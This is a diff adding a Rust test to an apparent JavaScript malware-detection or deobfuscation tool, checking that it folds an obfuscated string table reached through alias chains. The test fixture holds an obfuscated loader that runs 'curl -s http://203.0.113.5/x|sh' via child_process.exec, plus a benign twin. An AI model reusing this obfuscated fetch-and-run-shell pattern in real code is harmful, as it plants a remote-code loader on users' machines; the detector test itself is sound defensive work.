@@ -323,6 +323,47 @@ const _0xq=_0x9e,fs=require('fs');const t=fs[_0xq(0x67)](process.argv[2],_0xq(0x
 }
 
 #[test]
+fn obfuscator_string_table_past_many_arrays_and_long_alias_chains_folds() {
+    // A top-level table declared after 80 ordinary string arrays (the search
+    // once kept the first 64 candidate arrays), and an accessor reached
+    // through aliases assigned in functions written in reverse order (the
+    // search once followed three rounds of aliases).
+    let mut src = String::new();
+    for i in 0..80 {
+        src.push_str(&format!("const labels{i} = ['a{i}', 'b{i}', 'c{i}'];\n"));
+    }
+    src.push_str(r#"const _0x5b=['child_process','exec','curl\x20-s\x20http://203.0.113.5/x|sh'];
+function _0x2b(_0x4){_0x4=_0x4-0x1a2;return _0x5b[_0x4];}
+let q1, q2, q3, q4, q5;
+function step5(){ q5 = q4; }
+function step4(){ q4 = q3; }
+function step3(){ q3 = q2; }
+function step2(){ q2 = q1; }
+q1 = _0x2b; step2(); step3(); step4(); step5();
+require(q5(0x1a2))[q5(0x1a3)](q5(0x1a4));
+"#);
+    let ev = run(&src);
+    let d = find(&ev, Op::DownloadExec).expect("folded through the chain");
+    assert!(d.target.contains("203.0.113.5"), "{d:#?}");
+    // Benign twin: the same arrays and chain around a table of method
+    // names; the accessor still folds (`fs.readFileSync`) and nothing runs.
+    let benign = src
+        .replace(
+            "'child_process','exec','curl\\x20-s\\x20http://203.0.113.5/x|sh'",
+            "'log','readFileSync','utf8'",
+        )
+        .replace(
+            "require(q5(0x1a2))[q5(0x1a3)](q5(0x1a4));",
+            "const fs = require('fs');\nconst t = fs[q5(0x1a3)](process.argv[2], q5(0x1a4));\nconsole[q5(0x1a2)](t.length);",
+        );
+    assert!(!benign.contains("child_process") && benign.contains("fs[q5"));
+    let ev = run(&benign);
+    let r = find(&ev, Op::FileRead).expect("folded fs.readFileSync");
+    assert_eq!(r.instrument, "fs.readFileSync", "{r:#?}");
+    assert!(ev.iter().all(|e| !net_or_exec(e)), "{ev:#?}");
+}
+
+#[test]
 fn reversed_and_char_code_strings_fold() {
     let ev = run(r#"const m = 'ssecorp_dlihc'.split('').reverse().join('');
 const f = String.fromCharCode(101, 120, 101, 99);
